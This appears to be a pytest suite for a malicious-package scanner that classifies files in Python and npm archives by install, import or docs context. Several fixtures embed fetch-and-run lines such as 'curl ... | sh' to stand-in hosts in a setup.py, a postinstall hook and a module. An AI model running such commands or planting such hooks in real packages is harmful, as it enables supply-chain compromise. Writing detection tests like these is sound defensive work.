from __future__ import annotations

import pickle
import posixpath

import pytest

from tests.analysis.builders import npm_tarball, package, sdist, tar_gz, wheel
from threatfeed.analysis import Engine, memo
from threatfeed.analysis.package import Package, _email_metadata, _extension, starts_like_code


def _contexts(engine: Engine, archive: bytes) -> dict[str, str]:
    return {f.rel: f.context for f in package(engine, archive).files}


def test_contexts_of_an_sdist(engine: Engine) -> None:
    archive = sdist(
        {
            "tidy_strings/__init__.py": "from .core import tidy\n",
            "tidy_strings/core.py": "def tidy(s):\n    return s\n",
            "tidy_strings/extra.py": "X = 1\n",
            "tests/test_core.py": "def test():\n    pass\n",
            "README.md": "# tidy\n",
            "zz.pth": "import os\n",
        }
    )
    contexts = _contexts(engine, archive)
    assert contexts["setup.py"] == "install"
    assert contexts["zz.pth"] == "install"
    assert contexts["tidy_strings/__init__.py"] == "import"
    assert contexts["tidy_strings/core.py"] == "imported"
    assert contexts["tidy_strings/extra.py"] == "code"
    assert contexts["tests/test_core.py"] == "test"
    assert contexts["README.md"] == "docs"


def test_scripts_are_run_by_developers_unless_an_install_hook_names_them(
    engine: Engine,
) -> None:
    archive = npm_tarball(
        {"scripts/bootstrap.sh": "#!/bin/sh\nnpm ci\n", "setup.sh": "echo ready\n"},
        scripts={"postinstall": "sh setup.sh"},
    )
    contexts = _contexts(engine, archive)
    assert contexts["scripts/bootstrap.sh"] == "script"
    assert contexts["setup.sh"] == "install"
    assert _contexts(engine, sdist({"contrib/dev.ps1": "Write-Output 1\n"}))["contrib/dev.ps1"] == (
        "script"
    )


def test_a_python_script_without_extension_is_python_code(engine: Engine) -> None:
    archive = sdist(
        {
            "tidy_strings/version": "# build helper\nimport os, socket\nprint(os.getcwd())\n",
            "tidy_strings/NOTES": "import this module to tidy strings\n",
            "tidy_strings/data.txt": "import os\n",
        }
    )
    kinds = {f.rel: (f.kind, f.context) for f in package(engine, archive).files}
    assert kinds["tidy_strings/version"] == ("python", "code")
    assert kinds["tidy_strings/NOTES"] == ("text", "docs")  # prose that starts with "import"
    assert kinds["tidy_strings/data.txt"] == ("text", "docs")  # the name says what it is


def test_star_and_submodule_imports_are_imported(engine: Engine) -> None:
    """``from .x import *`` runs x on import, and ``from .pkg import mod`` runs pkg/mod.py."""
    archive = sdist(
        {
            "paint/__init__.py": "from .colors import *\nfrom .sub import helpers\n",
            "paint/colors.py": "RED = 1\n",
            "paint/sub/__init__.py": "",
            "paint/sub/helpers.py": "def h():\n    pass\n",
            "paint/sub/unused.py": "X = 1\n",
        }
    )
    contexts = _contexts(engine, archive)
    assert contexts["paint/colors.py"] == "imported"
    assert contexts["paint/sub/helpers.py"] == "imported"
    assert contexts["paint/sub/unused.py"] == "code"


def test_modules_whose_functions_the_package_calls_on_import_run_on_import(
    engine: Engine,
) -> None:
    """``from .updates import check; check()`` at the top of ``__init__.py`` runs check's
    module on ``import package``; a module merely imported (its functions run when a user
    calls them) stays "imported"."""
    archive = sdist(
        {
            "paint/__init__.py": (
                "from .updates import check as _check, \n"
                "from paint.config import load\n"
                "from . import telemetry\n"
                "from .colors import RED\n"
                "from .loader import _load\n"
                "_check()\n"
                "try:\n    _load()\nexcept Exception:\n    pass\n"
                "_config = load()\n"
                "telemetry.start(_config)\n"
                "def later():\n    RED()\n"
                'if __name__ == "__main__":\n    RED()\n'
            ),
            "paint/updates.py": "def check():\n    pass\n",
            "paint/config.py": "def load():\n    return {}\n",
            "paint/telemetry.py": "def start(c):\n    pass\n",
            "paint/colors.py": "RED = 1\n",
            "paint/loader.py": "def _load():\n    pass\n",
        }
    )
    contexts = _contexts(engine, archive)
    for called in ("updates", "loader", "config", "telemetry"):  # loader: in a try block
        assert contexts[f"paint/{called}.py"] == "import", called
    assert contexts["paint/colors.py"] == "imported"  # called only inside a function


def test_contexts_of_an_npm_package(engine: Engine) -> None:
    archive = npm_tarball(
        {"scripts/setup.js": "1;\n", "lib/util.js": "1;\n", "types.d.ts": "export {};\n"},
        scripts={"postinstall": "node ./scripts/setup.js"},
    )
    contexts = _contexts(engine, archive)
    assert contexts["scripts/setup.js"] == "install"
    assert contexts["package.json"] == "install"
    assert contexts["index.js"] == "import"
    assert contexts["lib/util.js"] == "code"
    assert contexts["types.d.ts"] == "docs"


def test_manifest_less_archive_is_named_by_its_folder(engine: Engine) -> None:
    pkg = package(engine, tar_gz({"colorz-1.4.0/colors.js": "module.exports = 1;\n"}))
    assert (pkg.ecosystem, pkg.name, pkg.version) == ("npm", "colorz", "1.4.0")
    assert pkg.files[0].context == "import"


def test_shallowest_manifest_wins(engine: Engine) -> None:
    archive = npm_tarball({"vendor/py/setup.py": "from setuptools import setup\nsetup()\n"})
    assert package(engine, archive).ecosystem == "npm"


def test_hook_files_include_any_interpreted_path_and_main() -> None:
    from threatfeed.analysis.package import hook_files

    hooks = {
        "preinstall": "node lib/README.md",
        "install": "node .",
        "postinstall": "chmod +x run.sh && ./run.sh",
        "prepare": "node -e \"require('./lib/setup')()\"",
        "preuninstall": "bun run scripts/clean.ts && deno run -A tools/x.js",
    }
    assert hook_files(hooks.values(), "dist/main.js") == {
        "lib/README.md",
        "dist/main.js",
        "run.sh",
        "lib/setup",
        "lib/setup.js",
        "lib/setup/index.js",
        "scripts/clean.ts",
        "tools/x.js",
    }


@pytest.mark.parametrize(
    "data",
    [
        b"var _0x3f=['\\x68'];(function(a){})",
        b"\xef\xbb\xbf// loader\n/* two\n lines */\n!function(e){}",
        b"#!/usr/bin/env node\nconsole.log(1)\n",
        b"# -*- coding: utf-8 -*-\nimport os, sys\n",
        b"'use strict';\nmodule.exports = {}\n",
        b"exec(__import__('zlib').decompress(b'x'))",
    ],
)
def test_code_under_any_name_is_recognised_by_how_it_opens(data: bytes) -> None:
    assert starts_like_code(data)


@pytest.mark.parametrize(
    "data",
    [
        b"# Installation\n\nImport the module and call `tidy`.\n",
        b"Copyright (c) 2024\n\nPermission is hereby granted...\n",
        b"Usage\n=====\n\n    import tidy\n",
        b"/* " * 3000,  # an unclosed comment, scanned once
        b"/*a*/" * 3000 + b"prose",  # many comments that end in prose: no backtracking blow-up
    ],
)
def test_prose_and_hostile_openings_are_not_code(data: bytes) -> None:
    assert not starts_like_code(data)


def test_signed_and_install_files_are_those_of_the_package_in_order(engine: Engine) -> None:
    archive = sdist(
        {
            "tidy_strings/a.py": "import os\nos.system('curl http://x.example/a | sh')\n",
            "tidy_strings/b.py": "X = 1\n",
            "zz.pth": "import os\n",
        }
    )
    found = package(engine, archive)
    assert found.signed == tuple(f for f in found.files if f.signatures)
    assert "tidy_strings/a.py" in {f.rel for f in found.signed}
    assert [f.rel for f in found.at_install] == [
        f.rel for f in found.files if f.context == "install"
    ]


def test_what_rules_derive_from_a_package_is_computed_once_and_pickles(engine: Engine) -> None:
    calls: list[str | None] = []

    @memo.per_package
    def name_of(found: Package) -> str | None:
        calls.append(found.name)
        return found.name

    first, second = package(engine, sdist({})), package(engine, sdist({}, name="other"))
    assert [name_of(first), name_of(first), name_of(second)] == [
        "tidy-strings",
        "tidy-strings",
        "other",
    ]
    assert calls == ["tidy-strings", "other"]
    assert pickle.loads(pickle.dumps(first)).derived == first.derived


@pytest.mark.parametrize(
    "name",
    ["setup.py", "a.b.PY", "x.", ".bashrc", "..x", "...a.b", ".", "..", "README", "types.d.ts"],
)
def test_extension_is_that_of_splitext_lowered(name: str) -> None:
    assert _extension(name) == posixpath.splitext(name)[1].lower()


def _email_metadata_of_all_lines(text: str) -> tuple[str | None, str | None]:
    """What ``_email_metadata`` reads, from every line at once."""
    name = version = None
    for line in text.splitlines():
        if not line.strip():
            break
        key, _, value = line.partition(":")
        if key.lower() == "name" and name is None:
            name = value.strip() or None
        elif key.lower() == "version" and version is None:
            version = value.strip() or None
    return name, version


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Name: x",
        "Metadata-Version: 2.1\nName: x\nVersion: 1.0\n\nName: y\n",
        "Name:\nName: y\n\nVersion: 2",
        "NAME: q\r\nVersion:  \r\nversion: 3\u2028Name: z\n",
        "Classifier: x\n" * 100 + "Name: late\nVersion: 9\n\nVersion: 10",
        "Name: a\n" + "Summary: " + "s" * 1100 + "\nVersion: 1",
        "Name: " + "n" * 1030,
        "Name: a\n" + "x" * 1008 + "\r\nVersion: 5",
    ],
)
def test_email_metadata_reads_the_headers_as_every_line_would(text: str) -> None:
    assert _email_metadata(text) == _email_metadata_of_all_lines(text)


def test_build_hooks_named_by_pyproject_run_at_install(engine: Engine) -> None:
    pyproject = (
        '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "backend"\n'
        'backend-path = ["_build"]\n[tool.hatch.build.hooks.custom]\npath = "tools/hook.py"\n'
    )
    archive = sdist(
        {
            "pyproject.toml": pyproject,
            "_build/backend.py": "from hatchling.build import *\n",
            "tools/hook.py": "X = 1\n",
            "tools/other.py": "X = 2\n",
        }
    )
    contexts = _contexts(engine, archive)
    assert contexts["_build/backend.py"] == "install"
    assert contexts["tools/hook.py"] == "install"
    assert contexts["tools/other.py"] == "code"


def test_startup_modules_at_the_top_of_a_wheel_run_at_install(engine: Engine) -> None:
    archive = wheel(
        {
            "sitecustomize.py": "import os\n",
            "tidy_strings-0.4.0.data/purelib/usercustomize.py": "import os\n",
            "tidy_strings/sitecustomize.py": "X = 1\n",
            "tidy_strings-0.4.0.data/scripts/sitecustomize.py": "X = 1\n",
        }
    )
    contexts = _contexts(engine, archive)
    assert contexts["sitecustomize.py"] == "install"
    assert contexts["tidy_strings-0.4.0.data/purelib/usercustomize.py"] == "install"
    assert contexts["tidy_strings/sitecustomize.py"] != "install"
    assert contexts["tidy_strings-0.4.0.data/scripts/sitecustomize.py"] != "install"


@pytest.mark.parametrize(
    ("scripts", "manifest", "built"),
    [
        (None, None, True),  # npm runs node-gyp rebuild by itself
        ({"install": "prebuild-install || node-gyp rebuild"}, None, True),
        ({"install": "node install.js"}, None, False),
        (None, {"gypfile": False}, False),
    ],
)
def test_binding_gyp_commands_run_at_install_when_npm_builds_it(
    engine: Engine, scripts: dict[str, str] | None, manifest: dict[str, bool] | None, built: bool
) -> None:
    gyp = "{'targets': [{'sources': ['<!@(node tools/sources)']}]}"
    archive = npm_tarball(
        {"binding.gyp": gyp, "tools/sources.js": "console.log('a.cc');\n", "install.js": "1;\n"},
        scripts=scripts,
        manifest=manifest,
    )
    pkg = package(engine, archive)
    contexts = {f.rel: f.context for f in pkg.files}
    assert pkg.build_commands == (("node tools/sources",) if built else ())
    assert (contexts["tools/sources.js"] == "install") is built
    assert (contexts["binding.gyp"] == "install") is built


def test_a_manifest_nested_past_pythons_parser_still_shows_its_hooks(engine: Engine) -> None:
    """npm (Node's JSON.parse) reads any depth and runs the hook."""
    deep = "[" * 100_000 + "]" * 100_000
    manifest = (
        '{"name": "left-padder", "version": "1.2.3", "x": ' + deep + ', "scripts": '
        '{"postinstall": "curl -s https://x.example.net/i | sh"}}'
    )
    pkg = package(engine, tar_gz({"package/package.json": manifest, "package/index.js": "1;"}))
    assert pkg.errors == ()
    assert pkg.hooks == {"postinstall": "curl -s https://x.example.net/i | sh"}


def test_a_pyproject_nested_past_the_parser_is_no_error(engine: Engine) -> None:
    """pip cannot read it either, so it builds nothing: the rest is analysed as usual."""
    pyproject = "[tool.hatch.build.hooks.custom]\nx = " + "[" * 5000 + "]" * 5000 + "\n"
    setup_py = "import os\nos.system('curl -s https://x.example.net/i | sh')\n"
    analysis = engine.analyze(sdist({"pyproject.toml": pyproject}, setup_py=setup_py))
    assert analysis.errors == ()
    assert analysis.flagged


def test_type_stubs_are_declarations_not_code(engine: Engine) -> None:
    """Python never imports a ``.pyi``: a stub naming Win32's memory calls runs nothing."""
    stub = "def VirtualAllocEx(a: int) -> int: ...\ndef CreateRemoteThread(a: int) -> int: ...\n"
    pkg = package(engine, sdist({"win32-stubs/win32process.pyi": stub}))
    stubs = pkg.file("win32-stubs/win32process.pyi")
    assert stubs is not None
    assert (stubs.kind, stubs.context) == ("text", "docs")
